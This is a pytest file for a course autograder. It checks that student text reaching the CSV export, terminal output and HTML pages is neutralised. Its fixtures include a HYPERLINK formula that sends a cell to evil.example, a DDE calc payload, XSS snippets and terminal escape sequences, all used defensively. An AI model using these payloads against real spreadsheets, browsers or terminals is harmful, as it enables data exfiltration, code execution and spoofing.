"""Student-controlled text and values on their way out of the grader: does the CSV hold no
formulas, the terminal get no escape sequences, the HTML no markup or made-up classes; is a
NaN, infinite or huge return a failure with a message rather than a grader crash; and does
the coordinator strip hidden tests from any cell in time proportional to its size?"""
import csv
import random
import re
import subprocess
import time
import unicodedata

import nbformat
import numpy as np
import pytest

from autograder import cli, html, results
from autograder.export import export
from autograder.feedback import write_feedback
from autograder.regions import visible_part
from autograder.report import write_report
from autograder.safe_text import csv_cell, terminal, visible
from autograder.sample_class import solved_release
from course.assignments.computation_graph.exercises import FORK, order_report
from course.checks import ContractBroken, verdict
from course.exercises import EXERCISES
from support import ROOT, course_copy

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # nbgrader's own

FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1+1",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1", "\uff0bcmd", "\u2212 1+1",
            "\u200b=1+1", "\n=1+1"]
TERMINAL_TRICKS = ["\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x9b31m", "bob\u202eevil.py",
                   "a\rb", "nul\x00", "del\x7f", "sep\u2028line", "tag\U000e0041"]
FORMULA_START = tuple("=+-@\t\r") + tuple("\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212")


def _course(folder, graded):
    """A throwaway course directory holding these SubmissionResults (and an empty gradebook)."""
    (folder / "nbgrader_config.py").write_text("c = get_config()\n")
    for result in graded:
        results.save(folder, result)
    return folder


def _result(student, exercises, assignment="a1", notes=()):
    return results.SubmissionResult(student, assignment, "fingerprint", exercises, list(notes))


def _exercise(message="", status="failed", score=0.0, max_score=1.0, mistake="",
              exercise="mul_backward", notebook="gates.ipynb"):
    return results.ExerciseResult(notebook, exercise, score, max_score, status, message, mistake)


# --- CSV -----------------------------------------------------------------------------------------

STUDENT_FORMULAS = ["=1+1", "+41", "-2+3", "@me", "\t=1", "\uff1dcmd()"]
REPORTED = [  # in assignment a2, for the class report
    _result("<svg onload=alert(1)>", [
        _exercise("<script>alert(1)</script>", status="crashed"),
        _exercise("<img src=x onerror=alert(1)> wrong", exercise="<i>add</i>")], assignment="a2"),
    _result("bob", [_exercise("<img src=x onerror=alert(1)> wrong"),
                    _exercise("", status="nonsense' class='passed", exercise="<i>add</i>")],
            assignment="a2")]


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """One course for the CSV and the report (making its gradebook takes seconds): in a1, alice's
    messages are formulas, other students' ids, notebooks and mistakes look like formulas, and
    bob's scores are negative or tiny; a2 holds REPORTED."""
    graded = [_result("alice", [_exercise(text, exercise=f"ex{k}") for k, text in enumerate(FORMULAS)]),
              _result("bob", [_exercise(score=-1.5, max_score=2.0), _exercise(score=1e-7)]),
              *(_result(student, [_exercise(mistake="=cmd|' /C calc'!A0", notebook="@nb.ipynb")])
                for student in STUDENT_FORMULAS)]
    return _course(tmp_path_factory.mktemp("course"), graded + REPORTED)


@pytest.fixture(scope="module")
def exported(course):
    """The rows of a1 in the CSV."""
    export(course, "a1", course / "grades.csv")
    with open(course / "grades.csv", newline="") as f:
        return list(csv.DictReader(f))


def _could_run(cell):
    """Whether a spreadsheet might read this cell as a formula or act on a control character."""
    first = next((c for c in cell if not c.isspace()), "")
    return cell.startswith(FORMULA_START) or first in FORMULA_START or any(
        unicodedata.category(c) in ("Cc", "Cf") for c in cell if c not in "\n\t")


def test_does_a_formula_in_a_message_reach_the_csv_as_text(exported):
    rows = [r for r in exported if r["student_id"] == "alice"]
    assert [r["exercise"] for r in rows] == [f"ex{k}" for k in range(len(FORMULAS))]
    for row, text in zip(rows, FORMULAS):
        assert not _could_run(row["message"]), row["message"]
        assert row["message"].lstrip("'").replace("\\x0d", "\r").replace("\\u200b", "\u200b") == text
    assert rows[1]["message"] == "'" + FORMULAS[1]


def test_does_a_student_id_that_looks_like_a_formula_reach_the_csv_as_text(exported):
    rows = {r["student_id"]: r for r in exported}
    for student in STUDENT_FORMULAS:
        row = rows["'" + student]
        for column in ("student_id", "mistake", "notebook"):
            assert not _could_run(row[column]) and row[column].startswith("'"), (column, row[column])


def test_do_plain_numbers_stay_numbers_in_the_csv(exported):
    assert [(r["score"], r["max_score"]) for r in exported if r["student_id"] == "bob"] == [
        ("-1.5", "2"), ("1e-07", "1")]
    assert [csv_cell(n) for n in ("-1.5", "3", "-2e-05", "-1+1", "-inf")] == [
        "-1.5", "3", "-2e-05", "'-1+1", "'-inf"]


# --- terminal ------------------------------------------------------------------------------------

def _only_visible(text):
    return not any(unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in text if c != "\n")


def test_does_the_autograde_summary_table_show_escape_sequences_instead_of_sending_them():
    graded = [_result(student, [_exercise(status="crashed")], assignment="a1\x1b[8m")
              for student in TERMINAL_TRICKS]
    table = cli.summary_table(graded)
    assert _only_visible(table)
    assert len(table.splitlines()) == 1 + len(TERMINAL_TRICKS)
    for shown in ("\\x1b]0;owned\\x07", "\\x9b31m", "bob\\u202eevil.py", "a\\x0db", "nul\\x00",
                  "a1\\x1b[8m", "tag\\U000e0041"):
        assert shown in table


def test_does_an_error_message_show_the_control_characters_of_a_path(tmp_path, capsys):
    assert cli.main(["--course-dir", str(tmp_path / "x\x1b]8;;evil.example\x07y"), "feedback", "a"]) == 2
    error = capsys.readouterr().err
    assert "\\x1b]8;;evil.example\\x07y" in error and _only_visible(error)


def test_does_a_multi_line_summary_keep_its_lines_but_show_everything_else():
    assert terminal("read 2 entries\n\x1b[31mmallory\u202e\r\n") == (
        "read 2 entries\n\\x1b[31mmallory\\u202e\\x0d\n")
    assert visible("tab\there\nand\x85") == "tab\\x09here\\x0aand\\x85"


# --- HTML ----------------------------------------------------------------------------------------

KNOWN_CLASSES = {"num", *results.PLAIN, *results.NEEDS_A_PERSON}


def _check_html(page, *texts):
    """No student markup survives in the page; every class is one the style sheet means."""
    for text in texts:
        assert text not in page
    assert set(re.findall(r"class=['\"]([^'\"]*)['\"]", page)) <= KNOWN_CLASSES


@pytest.mark.parametrize("word", ["failed' onmouseover='alert(1)", "passed crashed", "num",
                                  "<b>passed</b>", "x\" style=\"color:red"])
def test_does_an_unknown_status_word_get_no_css_class(word):
    assert html.status(word) == f"<span>{html.escape(word)}</span>"
    assert html.status("failed") == "<span class='failed'>failed</span>"


def test_is_every_student_controlled_text_escaped_in_the_feedback_page(tmp_path):
    student = "<svg onload=alert(1)>"
    graded = [_result(student, [
        _exercise("<script>alert(1)</script>", status="failed' onclick='alert(1)"),
        _exercise("fine", status="passed", score=1.0, exercise="<i>add</i>")],
        notes=["<img src=x onerror=alert(1)>"])]
    page, = write_feedback(_course(tmp_path, graded), "a1")
    text = page.read_text()
    _check_html(text, "<script>", "<svg", "<img src=x", "<i>", "onclick='")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text and "&lt;svg onload=alert(1)&gt;" in text


def test_is_every_student_controlled_text_escaped_in_the_class_report(course):
    text = write_report(course, "a2").read_text()
    _check_html(text, "<script>", "<svg", "<img src=x", "<i>")
    assert "&lt;svg onload=alert(1)&gt;" in text and "&lt;script&gt;" in text


# --- values the judge cannot cast ------------------------------------------------------------------

BAD_VALUES = [np.nan, np.inf, -np.inf, 1e300, -1e300, 10**400, -(10**400), 2**70]


def _returned(exercise, case, bad, everywhere):
    """The right outputs, but the first holds bad everywhere, or in its first entry only."""
    outputs = list(exercise.expected(case))
    first = np.array(outputs[0], dtype=object)
    if everywhere:
        first[...] = bad
    else:
        first.flat[0] = bad
    outputs[0] = first.tolist()
    return outputs[0] if len(outputs) == 1 else tuple(outputs)


@pytest.mark.parametrize("name", sorted(EXERCISES))
def test_is_a_nan_infinite_or_huge_return_a_failure_with_a_message(name):
    exercise = EXERCISES[name]
    case = exercise.visible[0]
    for bad in BAD_VALUES:
        for everywhere in (True, False):
            for hidden in (False, True):
                message, mistake = verdict(exercise, case, _returned(exercise, case, bad, everywhere),
                                           hidden)
                assert isinstance(message, str) and f"returned a wrong {exercise.outputs[0]}" in message
                assert mistake is None or mistake.name


@pytest.mark.parametrize("order", [[np.nan], [np.inf, 0.0], [-np.inf], [1e300], [10**400],
                                   [2**70, 1], [0.5]])
def test_is_a_topological_order_that_is_no_node_index_a_broken_contract_naming_it(order):
    with pytest.raises(ContractBroken, match="topological_order"):
        order_report(FORK.graph, FORK.output, order)


# --- hidden tests in submitted cells ----------------------------------------------------------------

OLD_HIDDEN = re.compile(r"^\s*### BEGIN HIDDEN TESTS.*?### END HIDDEN TESTS\s*$", re.M | re.S)
BEGIN, END = "### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS"


def _old_visible_part(source):
    """What visible_part returned when it was a regular expression (quadratic on some cells)."""
    return OLD_HIDDEN.sub("", source).strip()


def _test_cells():
    """The source of every graded test cell of the course's source notebooks."""
    for path in sorted(ROOT.glob("source/*/*.ipynb")):
        for cell in nbformat.read(path, as_version=4).cells:
            if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("grade"):
                yield cell.source


def test_does_visible_part_strip_every_source_test_cell_as_before():
    cells = list(_test_cells())
    assert len(cells) > 20 and sum(BEGIN in c for c in cells) > 20
    for source in cells:
        assert visible_part(source) == _old_visible_part(source)


def test_does_visible_part_strip_assorted_cells_as_before():
    lines = [BEGIN, END, "  " + BEGIN, "\t" + END, "check(f)", "", "  ", "\r", " \x0c ",
             BEGIN + " note", END + " not the end", "x = 1  " + END, BEGIN + END, END + " " + END,
             "\u00a0" + BEGIN, "assert g(1) == 2"]
    rng = random.Random(12)
    for _ in range(20000):
        source = "\n".join(rng.choice(lines) for _ in range(rng.randint(0, 10)))
        source += rng.choice(["", "\n", "\n\n", " ", "\r\n"])
        assert visible_part(source) == _old_visible_part(source), repr(source)


def test_does_an_unbalanced_marker_leave_the_text_as_it_was():
    """A stray END is ordinary text; a BEGIN never closed hides nothing, so text after it still
    makes a test cell differ from the one given (an edit)."""
    assert visible_part(f"check(f)\n{END}") == f"check(f)\n{END}"
    assert visible_part(f"check(f)\n\n{BEGIN}\nsecret()") == f"check(f)\n\n{BEGIN}\nsecret()"
    assert visible_part(f"a\n{BEGIN}\nx\n{END}\n\nb\n{BEGIN}\ny") == f"a\n\nb\n{BEGIN}\ny"


@pytest.mark.parametrize("unit", [BEGIN + "\n", END + "\n", f"{BEGIN}\n{END}\n", f"{END}\n{BEGIN}\n",
                                  BEGIN + " ", "\n" * 200 + BEGIN + "\n"],
                         ids=["begins", "ends", "alternating", "ends-first", "one-line", "blank-lines"])
def test_does_visible_part_take_time_in_proportion_to_a_pathological_8_mib_cell(unit):
    source = unit * ((8 << 20) // len(unit))
    start = time.perf_counter()
    visible_part(source)
    assert time.perf_counter() - start < 5


def test_does_the_progress_bar_show_a_students_escape_sequences_instead_of_sending_them(tmp_path):
    course = course_copy(tmp_path / "course", "01_derivative")
    student = "eve\x1b]0;owned\x07"
    notebook = solved_release(ROOT, "01_derivative", "derivative.ipynb")
    folder = course / "submitted" / student / "01_derivative"
    folder.mkdir(parents=True)
    nbformat.write(notebook, folder / "derivative.ipynb")
    run = subprocess.run(["backprop-course", "autograde", "01_derivative"], cwd=course,
                         capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stderr
    assert "\x1b]0;owned" not in run.stderr + run.stdout
    assert "eve\\x1b]0;owned\\x07" in run.stderr
